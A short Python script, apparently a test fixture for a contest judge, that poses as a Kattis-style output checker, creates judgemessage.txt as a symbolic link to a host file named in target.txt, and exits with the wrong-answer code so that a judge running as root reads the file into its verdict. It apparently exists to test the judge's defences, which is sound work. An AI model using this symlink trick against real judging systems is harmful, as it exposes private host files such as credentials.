# A hostile Kattis-convention checker: its judgemessage.txt is a symbolic link to a host file (named in
# target.txt beside it), which a judge running as root would read back into the verdict message.
import os
import sys

target = open(os.path.join(os.path.dirname(os.path.abspath(sys.argv[0])), "target.txt")).read().strip()
os.symlink(target, os.path.join(sys.argv[3], "judgemessage.txt"))
sys.exit(43)
